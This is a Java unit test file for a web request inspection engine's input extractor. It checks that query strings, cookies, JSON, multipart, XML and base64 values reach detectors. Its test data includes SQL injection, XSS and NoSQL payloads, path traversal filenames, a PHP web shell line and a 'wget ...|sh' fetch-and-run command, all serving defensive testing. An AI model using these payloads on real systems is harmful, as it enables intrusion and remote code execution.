package ai.traceable.tme.engine.inspect;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class InputExtractorTest {
  private final InputExtractor extractor = new InputExtractor(InspectionLimits.DEFAULTS);

  private static RequestView request(String path, String contentType, String body) {
    Map<String, List<String>> headers =
        contentType == null
            ? Map.of("user-agent", List.of("curl/8"))
            : Map.of("user-agent", List.of("curl/8"), "content-type", List.of(contentType));
    return new RequestView(
        "POST", path, "h", headers, body.getBytes(StandardCharsets.UTF_8), false, "10.0.0.1", 1);
  }

  private List<String> locations(RequestView r) {
    return extractor.extract(r).values().stream()
        .map(v -> v.location() + "=" + v.decoded())
        .toList();
  }

  @Test
  void queryNamesAndValuesAreDecodedWithPlusAsSpace() {
    assertThat(locations(request("/s?q=a+b%27&x%5B%24ne%5D=1", null, "")))
        .contains("query:q=a b'", "query-name=x[$ne]", "query:x[$ne]=1");
  }

  @Test
  void cookiesAreSplitAndHeadersSkippedWhenStructural() {
    RequestView r =
        new RequestView(
            "GET",
            "/",
            "h",
            Map.of(
                "cookie", List.of("sid=abc; theme=dark%20mode"),
                "accept", List.of("*/*"),
                "x-custom", List.of("v")),
            new byte[0],
            false,
            "",
            0);
    assertThat(locations(r))
        .contains("cookie:sid=abc", "cookie:theme=dark mode", "header:x-custom=v")
        .noneMatch(s -> s.startsWith("header:accept"));
  }

  @Test
  void jsonLeavesAndOperatorKeysAreInspectedWithTheirPath() {
    assertThat(
            locations(
                request(
                    "/api",
                    "application/json",
                    "{\"user\":{\"name\":\"O'Brien\",\"tags\":[\"a\",\"b\"],\"pw\":{\"$ne\":null}},\"n\":5}")))
        .contains(
            "json:user.name=O'Brien",
            "json:user.tags=a",
            "json:user.tags=b",
            "json-key:user.pw.$ne=$ne")
        .noneMatch(s -> s.contains("=5"));
  }

  @Test
  void brokenJsonIsInspectedAsText() {
    Inputs inputs = extractor.extract(request("/api", "application/json", "{\"a\": \"x' OR 1=1"));
    assertThat(inputs.bodyProblem()).contains("not valid JSON");
    assertThat(inputs.values()).extracting(Inspected::location).contains("text");
  }

  @Test
  void multipartGivesFieldValuesAndFileNames() {
    String body =
        "--XyZ\r\n"
            + "Content-Disposition: form-data; name=\"comment\"\r\n\r\n"
            + "hello there\r\n"
            + "--XyZ\r\n"
            + "Content-Disposition: form-data; name=\"upload\"; filename=\"../../a.php\"\r\n"
            + "Content-Type: image/png\r\n\r\n"
            + "\u0089PNG...\r\n"
            + "--XyZ--\r\n";
    assertThat(locations(request("/up", "multipart/form-data; boundary=XyZ", body)))
        .contains("multipart:comment=hello there", "multipart-filename:upload.filename=../../a.php")
        .noneMatch(s -> s.contains("PNG"));
  }

  @Test
  void graphqlSyntaxIsSkippedButItsStringsAreNot() {
    String body =
        "{\"query\":\"{ user(name: \\\"x' or 1=1--\\\") { id } }\",\"variables\":{\"v\":\"w\"}}";
    List<String> found = locations(request("/graphql", "application/json", body));
    assertThat(found).contains("json:query=x' or 1=1--", "json:variables.v=w");
    assertThat(found).noneMatch(s -> s.contains("{ user"));
  }

  @Test
  void xmlGivesTheDocumentTextAndAttributes() {
    assertThat(
            locations(
                request("/x", "application/xml", "<a id=\"7\"><b>text</b><![CDATA[raw<]]></a>")))
        .contains("xml:attribute=7", "xml:text=text", "xml:cdata=raw<")
        .anyMatch(s -> s.startsWith("xml:document=<a"));
  }

  @Test
  void base64ValuesAreAlsoInspectedDecoded() {
    assertThat(locations(request("/s?d=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg%3D%3D", null, "")))
        .contains("query:d(base64)=<script>alert(1)</script>");
  }

  @Test
  void limitsBoundTheWorkAndAreReported() {
    InputExtractor small = new InputExtractor(new InspectionLimits(16, 3, 8, 2));
    Inputs inputs =
        small.extract(request("/s?a=1&b=2&c=3&d=4", "text/plain", "0123456789abcdefghijk"));
    assertThat(inputs.values()).hasSizeLessThanOrEqualTo(3);
    assertThat(inputs.limited()).isTrue();
    Inputs deep =
        small.extract(request("/j", "application/json", "{\"a\":{\"b\":{\"c\":\"deep\"}}}"));
    assertThat(deep.values()).extracting(Inspected::decoded).doesNotContain("deep");
    assertThat(deep.limited()).isTrue();
  }

  @Test
  void everyNameIsInspectedOnceInAPlacementOfItsOwn() {
    RequestView r =
        new RequestView(
            "POST",
            "/s?java.lang.Runtime=1&limit=2&limit=3&q=4",
            "h",
            Map.of(
                "cookie", List.of("__proto__=x; session=1; sid=2"),
                "content-type", List.of("application/json")),
            "[{\"constructor.prototype\":1},{\"constructor.prototype\":2}]"
                .getBytes(StandardCharsets.UTF_8),
            false,
            "",
            0);
    List<String> found = locations(r);
    assertThat(found)
        .contains(
            "query-name=java.lang.Runtime",
            "query-name=limit",
            "cookie-name=__proto__",
            "cookie-name=session",
            "json-key:constructor.prototype=constructor.prototype");
    assertThat(found.stream().filter(s -> s.equals("query-name=limit"))).hasSize(1);
    // too short to spell anything a detector reports
    assertThat(found).doesNotContain("query-name=q", "cookie-name=sid");
    assertThat(found.stream().filter(s -> s.startsWith("json-key:"))).hasSize(1);
    assertThat(Placement.COOKIE_NAME.isName()).isTrue();
    assertThat(Placement.COOKIE.isName()).isFalse();
  }

  @Test
  void pathSegmentsAreValuesAndPlainOnesAreTriedAsBase64() {
    List<String> found =
        locations(request("/go/javascript:alert(1)/items/MScgT1IgJzEnPScxJyAtLSA/42", null, ""));
    assertThat(found)
        .contains("path-segment=javascript:alert(1)", "path-segment:(base64)=1' OR '1'='1' -- ")
        .noneMatch(s -> s.equals("path-segment=items") || s.equals("path-segment=42"));
  }

  @Test
  void headersAreAlsoInspectedBase64Decoded() {
    RequestView r =
        new RequestView(
            "GET",
            "/",
            "h",
            Map.of("x-data", List.of("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==")),
            new byte[0],
            false,
            "",
            0);
    assertThat(locations(r)).contains("header:x-data(base64)=<script>alert(1)</script>");
  }

  @Test
  void binaryPartsAndBodiesGiveTheirPrintableRuns() {
    String body =
        "--XyZ\r\nContent-Disposition: form-data; name=\"pic\"; filename=\"a.gif\"\r\n"
            + "Content-Type: image/gif\r\n\r\nGIF89a\u0001\u0002<?php system($_GET['c']); ?>"
            + "\u0003ab\r\n--XyZ--\r\n";
    assertThat(locations(request("/up", "multipart/form-data; boundary=XyZ", body)))
        .contains("multipart:pic=<?php system($_GET['c']); ?>");
    assertThat(
            locations(
                request(
                    "/up",
                    "application/octet-stream",
                    "\u0000\u0001wget http://x.example/a|sh\u0002")))
        .contains("text:printable=wget http://x.example/a|sh");
  }

  @Test
  void longValuesAreInspectedInOverlappingWindowsUpToABound() {
    InputExtractor small = new InputExtractor(new InspectionLimits(1 << 20, 1024, 1024, 8));
    String tail = "' UNION SELECT password FROM users--";
    String value = "a".repeat(3000) + tail;
    Inputs inputs = small.extract(request("/s", "text/plain", value));
    assertThat(inputs.values())
        .filteredOn(v -> v.placement() == Placement.TEXT)
        .anyMatch(v -> v.decoded().endsWith(tail))
        .allMatch(v -> v.raw().length() <= 1024);
    assertThat(inputs.limited()).isFalse();
    Inputs huge = small.extract(request("/s", "text/plain", "b".repeat(20_000) + tail));
    assertThat(huge.values()).filteredOn(v -> v.placement() == Placement.TEXT).hasSize(8);
    assertThat(huge.limited()).isTrue();
  }
}
